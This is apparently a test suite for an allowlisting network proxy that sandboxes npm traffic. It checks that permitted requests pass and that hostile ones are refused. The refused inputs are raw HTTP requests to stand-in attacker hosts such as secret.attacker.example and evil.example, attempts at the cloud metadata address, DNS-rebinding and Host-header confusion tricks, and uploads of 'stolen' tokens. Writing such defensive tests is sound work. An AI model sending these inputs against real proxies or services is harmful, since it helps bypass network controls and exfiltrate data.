// The proxy on real sockets: an HTTP upstream, a TCP echo standing in for an HTTPS
// server and a UDP "DNS server" on loopback; clients are Node's http over the Unix socket,
// raw bytes, and curl through the jail bridge.

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { request } from 'node:http';
import { connect } from 'node:net';
import { join } from 'node:path';
import { parseHostRules } from '../../../src/net/host-rule.js';
import { startProxy, type RunningProxy } from '../../../src/net/proxy.js';
import { curl, once, openTunnel, rawExchange, startBridge, startEcho, startFakeDns, startHttpUpstream, tempDir } from './fixtures.js';

let dir: ReturnType<typeof tempDir>;
let http: Awaited<ReturnType<typeof startHttpUpstream>>;
let echo: Awaited<ReturnType<typeof startEcho>>;
let dns: Awaited<ReturnType<typeof startFakeDns>>;
let proxy: RunningProxy;
let bridge: Awaited<ReturnType<typeof startBridge>>;
let socketPath: string;

before(async () => {
  dir = tempDir();
  http = await startHttpUpstream();
  echo = await startEcho();
  dns = await startFakeDns({ 'allowed.test': '127.0.0.1', 'www.rebind.test': '127.0.0.1' });
  socketPath = join(dir.path, 'proxy.sock');
  proxy = await startProxy({
    socketPath,
    policy: {
      allow: parseHostRules([`127.0.0.1:${http.port}`, `allowed.test:${echo.port}`, `*.rebind.test:${http.port}`, 'allowed.test:443']),
    },
    resolve: dns.resolver,
  });
  // As in a real run: the bridge hands its connections to the proxy.
  bridge = await startBridge(socketPath, undefined, (s) => proxy.adopt(s));
});

after(async () => {
  bridge.child.stdin.end();
  bridge.child.disconnect();
  await bridge.exited;
  await proxy.close();
  await Promise.all([http.close(), echo.close(), dns.close()]);
  dir.remove();
});

/** GET through the proxy with Node's http client over the Unix socket (absolute-form). */
function viaNodeHttp(url: string, method = 'GET', body?: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request({ socketPath, path: url, method, headers: { host: new URL(url).host }, agent: false }, (res) => {
      let text = '';
      res.on('data', (d: Buffer) => (text += d.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

function blockedFor(host: string, port?: number) {
  return proxy.blocked().filter((b) => b.host === host && (port === undefined || b.port === port));
}

describe('what the allowlist lets through', () => {
  test('an allowed plain-HTTP GET reaches the upstream and returns its body', async () => {
    const r = await viaNodeHttp(`http://127.0.0.1:${http.port}/react?x=1`);
    assert.equal(r.status, 200);
    assert.equal(r.body, 'upstream says hello to GET /react?x=1\n');
    const seen = http.seen.at(-1)!;
    assert.equal(seen.url, '/react?x=1', 'the upstream gets origin-form');
    assert.equal(seen.host, `127.0.0.1:${http.port}`);
    const contacted = proxy.contacted().find((c) => c.host === '127.0.0.1' && c.port === http.port);
    assert.ok(contacted && contacted.count >= 1 && contacted.bytesIn > 0 && contacted.bytesOut > 0);
  });

  test('curl through the jail bridge gets the upstream body', async () => {
    const r = await curl(['--proxy', `http://127.0.0.1:${bridge.port}`, `http://127.0.0.1:${http.port}/lodash`]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, 'upstream says hello to GET /lodash\n');
  });

  test('the same address spelled as a number or in hex is the allowed address', async () => {
    for (const spelled of ['2130706433', '0x7f.1']) {
      const r = await curl(['--proxy', `http://127.0.0.1:${bridge.port}`, `http://${spelled}:${http.port}/n`]);
      assert.equal(r.stdout, 'upstream says hello to GET /n\n', spelled);
    }
  });

  test('CONNECT to an allowed host:port tunnels bytes both ways', async () => {
    const before = echo.received();
    const t = await openTunnel({ path: socketPath }, `allowed.test:${echo.port}`);
    assert.equal(t.status, 200);
    t.socket.resume();
    const reply = once<Buffer>(t.socket, 'data');
    t.socket.write('ping through the tunnel');
    assert.equal(String(await reply), 'ping through the tunnel');
    t.socket.destroy();
    assert.equal(echo.received() - before, 'ping through the tunnel'.length);
    assert.ok(dns.queries.includes('allowed.test'), 'an allowed name is resolved (the DNS sink works)');
  });

  test('npm audit may POST; its body reaches the upstream', async () => {
    const r = await viaNodeHttp(`http://127.0.0.1:${http.port}/-/npm/v1/security/advisories/bulk`, 'POST', '{"react":["18.0.0"]}');
    assert.equal(r.status, 200);
    assert.equal(http.seen.at(-1)!.body, '{"react":["18.0.0"]}');
  });
});

describe('what the allowlist refuses, records, and never sends upstream', () => {
  test('a host outside the allowlist gets 403 naming it and the --allow-host that would allow it', async () => {
    const r = await curl(['--proxy', `http://127.0.0.1:${bridge.port}`, '-i', 'http://example.com/']);
    assert.match(r.stdout, /^HTTP\/1\.1 403 /);
    assert.match(r.stdout, /example\.com:80 is not in the allowlist; to allow it: --allow-host example\.com:80/);
    assert.equal(blockedFor('example.com', 80)[0]?.method, 'GET');
    const t = await curl(['--proxy', `http://127.0.0.1:${bridge.port}`, 'https://example.com/']);
    assert.notEqual(t.code, 0);
    assert.equal(blockedFor('example.com', 443)[0]?.method, 'CONNECT');
  });

  test('a name refused by the allowlist is never looked up (no DNS exfiltration)', async () => {
    const queriesBefore = dns.queries.length;
    const r1 = await rawExchange(socketPath, 'CONNECT secret.attacker.example:443 HTTP/1.1\r\nHost: secret.attacker.example:443\r\n\r\n');
    const r2 = await rawExchange(socketPath, 'GET http://secret2.attacker.example/ HTTP/1.1\r\nHost: secret2.attacker.example\r\n\r\n');
    assert.match(r1, /^HTTP\/1\.1 403 /);
    assert.match(r2, /^HTTP\/1\.1 403 /);
    await new Promise((r) => setTimeout(r, 200));
    assert.deepEqual(dns.queries.slice(queriesBefore), [], 'the DNS listener received no query');
    assert.equal(blockedFor('secret.attacker.example', 443).length, 1);
  });

  test('a name allowed by a wildcard that resolves to loopback is refused (DNS rebinding)', async () => {
    const seen = http.seen.length;
    const r = await rawExchange(socketPath, `GET http://www.rebind.test:${http.port}/ HTTP/1.1\r\nHost: www.rebind.test:${http.port}\r\n\r\n`);
    assert.match(r, /^HTTP\/1\.1 403 /);
    assert.match(r, /resolves to 127\.0\.0\.1, which is an internal address/);
    assert.ok(dns.queries.includes('www.rebind.test'));
    assert.equal(http.seen.length, seen, 'the upstream saw nothing');
  });

  test('allowlist confusion fails', async () => {
    const seen = http.seen.length;
    const echoed = echo.connections();
    const cases: [string, RegExp][] = [
      [`CONNECT allowed.test@evil.example:${echo.port} HTTP/1.1\r\n\r\n`, /user information/],
      [`GET http://allowed.test@evil.example:${http.port}/ HTTP/1.1\r\nHost: evil.example:${http.port}\r\n\r\n`, /user information/],
      [`GET http://user:pw@127.0.0.1:${http.port}/ HTTP/1.1\r\nHost: 127.0.0.1:${http.port}\r\n\r\n`, /user information/],
      [`CONNECT allowed.test:${echo.port} HTTP/1.1\r\nHost: evil.example:${echo.port}\r\n\r\n`, /Host header .* names another host/],
      [`GET http://127.0.0.1:${http.port}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n`, /Host header .* names another host/],
      [`GET http://127.0.0.1:${http.port}/ HTTP/1.1\r\nHost: 127.0.0.1:${http.port}\r\nHost: evil.example\r\n\r\n`, /more than one Host header/],
      [`CONNECT evil.allowed.test.attacker.com:${echo.port} HTTP/1.1\r\n\r\n`, /not in the allowlist/],
      [`CONNECT allowed.test.evil.com:${echo.port} HTTP/1.1\r\n\r\n`, /not in the allowlist/],
      [`CONNECT sub.allowed.test:${echo.port} HTTP/1.1\r\n\r\n`, /not in the allowlist/],
      ['CONNECT allowed.test:22 HTTP/1.1\r\n\r\n', /port 22 is not allowed for allowed\.test/],
      [`GET http://[::ffff:127.0.0.1]:${http.port}/ HTTP/1.1\r\n\r\n`, /\[::ffff:7f00:1\]:\d+ is not in the allowlist/],
      [`GET http://2130706433:${echo.port}/ HTTP/1.1\r\n\r\n`, /port \d+ is not allowed for 127\.0\.0\.1 .*--allow-host 127\.0\.0\.1:\d+/],
      ['GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n\r\n', /169\.254\.169\.254:80 is not in the allowlist/],
      [`GET http://%61llowed.test:${http.port}/ HTTP/1.1\r\n\r\n`, /bad URL host/],
      [`GET http://127.0.0.1:${http.port}/ HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`, /protocol upgrades/],
      ['GET /index.html HTTP/1.1\r\nHost: allowed.test\r\n\r\n', /absolute-form/],
    ];
    for (const [request, reason] of cases) {
      const before = proxy.blocked().reduce((n, b) => n + b.count, 0);
      const answer = await rawExchange(socketPath, request);
      assert.match(answer, /^HTTP\/1\.1 40[03] /, request);
      assert.match(answer, reason, request);
      assert.equal(proxy.blocked().reduce((n, b) => n + b.count, 0), before + 1, `recorded: ${request}`);
    }
    assert.equal(http.seen.length, seen, 'the HTTP upstream saw none of them');
    assert.equal(echo.connections(), echoed, 'the echo upstream saw none of them');
    assert.equal(blockedFor('evil.example', echo.port)[0]?.method, 'CONNECT', 'userinfo is recorded under the host it really names');
    for (const b of proxy.blocked()) assert.doesNotMatch(b.host, /[^\]]:\d+$/, `the port is not part of the host: ${b.host}`);
  });

  test('publishing, unpublishing, dist-tags, login and uploads are refused over plain HTTP', async () => {
    const seen = http.seen.length;
    const base = `http://127.0.0.1:${http.port}`;
    for (const [method, path] of [
      ['PUT', '/my-package'],
      ['PUT', '/-/user/org.couchdb.user:alice'],
      ['PUT', '/-/package/my-package/dist-tags/latest'],
      ['DELETE', '/my-package/-rev/1-abc'],
      ['PATCH', '/my-package'],
      ['POST', '/legacy/'],
      ['POST', '/-/npm/v1/tokens'],
      ['POST', '/-/npm/v1/security/../../v1/tokens'],
    ] as const) {
      // (Node's client sends a DELETE body unframed; a body there would be a second request.)
      const r = await viaNodeHttp(base + path, method, method === 'DELETE' ? undefined : 'stolen-token-and-tarball');
      assert.equal(r.status, 403, `${method} ${path}`);
      assert.match(r.body, new RegExp(`^safe-package blocked ${method} 127\\.0\\.0\\.1:${http.port}: ${method} is refused`));
      assert.ok(proxy.blocked().some((b) => b.method === method && b.port === http.port));
    }
    assert.equal(http.seen.length, seen, 'no write reached the registry');
  });

  test('a TLS ClientHello for another host than the CONNECT is refused before any byte goes upstream', async () => {
    const { connect: tlsConnect } = await import('node:tls');
    const received = echo.received();
    const t = await openTunnel({ path: socketPath }, `allowed.test:${echo.port}`);
    assert.equal(t.status, 200);
    const closed = once(t.socket, 'close');
    const tls = tlsConnect({ socket: t.socket, servername: 'evil.example', rejectUnauthorized: false });
    tls.on('error', () => undefined);
    await closed;
    assert.equal(echo.received(), received, 'the upstream received nothing');
    assert.match(blockedFor('allowed.test', echo.port).at(-1)?.reason ?? '', /SNI\) "evil\.example" is not the host of the CONNECT/);

    // Control: the same tunnel with the right server name delivers the ClientHello.
    const ok = await openTunnel({ path: socketPath }, `allowed.test:${echo.port}`);
    const good = tlsConnect({ socket: ok.socket, servername: 'allowed.test', rejectUnauthorized: false });
    good.on('error', () => undefined);
    for (let i = 0; i < 50 && echo.received() === received; i++) await new Promise((r) => setTimeout(r, 20));
    good.destroy();
    assert.ok(echo.received() > received, 'a matching ClientHello reaches the upstream');
  });
});

describe('a hostile client cannot take the proxy down', () => {
  test('garbage, oversized heads and half requests get an answer or a close, and the proxy keeps serving', async () => {
    const garbage = [
      Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0, 0, 0]),
      Buffer.from('\u0000\u0001\u0002\r\n\r\n'),
      Buffer.from('NOT A REQUEST\r\n\r\n'),
      Buffer.from('GET http://127.0.0.1/ HTTP/9.9\r\n\r\n'),
      Buffer.from(`GET http://127.0.0.1:${http.port}/ HTTP/1.1\r\nX: ${'a'.repeat(64 * 1024)}\r\n\r\n`),
      Buffer.from('CONNECT \u001b[31mred:443 HTTP/1.1\r\n\r\n'),
      Buffer.from('CONNECT :443 HTTP/1.1\r\n\r\n'),
      Buffer.from('CONNECT [::1 HTTP/1.1\r\n\r\n'),
      Buffer.from('GET http://127.0.0.1:99999/ HTTP/1.1\r\n\r\n'),
    ];
    for (const g of garbage) {
      const answer = await rawExchange(socketPath, g, 3000);
      if (answer) assert.match(answer, /^HTTP\/1\.1 4\d\d /, JSON.stringify(g.subarray(0, 40).toString('latin1')));
    }
    for (const b of proxy.blocked()) assert.doesNotMatch(b.host + b.reason, /\u001b/, 'no terminal escapes in the record');
    // A client that connects and sends nothing, and one that closes mid-request.
    const silent = connect({ path: socketPath });
    silent.on('error', () => undefined);
    const half = connect({ path: socketPath }, () => half.end('GET http://127.0.0.1'));
    half.on('error', () => undefined);
    const r = await viaNodeHttp(`http://127.0.0.1:${http.port}/still-alive`);
    assert.equal(r.status, 200);
    silent.destroy();
  });

  test('500 parallel connections: the first 256 are served, the rest told to retry, and the proxy survives', async (t) => {
    const attempts = await Promise.all(
      Array.from({ length: 500 }, () =>
        openTunnel({ port: bridge.port }, `allowed.test:${echo.port}`).then(
          (tunnel) => tunnel,
          () => undefined,
        ),
      ),
    );
    const open = attempts.filter((a) => a?.status === 200);
    const busy = attempts.filter((a) => a?.status === 503);
    t.diagnostic(`500 parallel tunnels: ${open.length} open, ${busy.length} told to retry`);
    assert.ok(open.length <= 256 && open.length >= 200, `open: ${open.length}`);
    assert.equal(open.length + busy.length, 500);
    assert.match(busy[0]!.head, /too many connections \(limit 256\)/);
    // Every tunnel that was opened still works.
    const echoed = await Promise.all(
      open.map((a) => {
        a!.socket.resume();
        const reply = once<Buffer>(a!.socket, 'data');
        a!.socket.write('x');
        return reply.then(String);
      }),
    );
    assert.ok(echoed.every((e) => e === 'x'));
    for (const a of attempts) a?.socket.destroy();
    await new Promise((r) => setTimeout(r, 100));
    const after = await viaNodeHttp(`http://127.0.0.1:${http.port}/after-the-storm`);
    assert.equal(after.status, 200);
  });
});
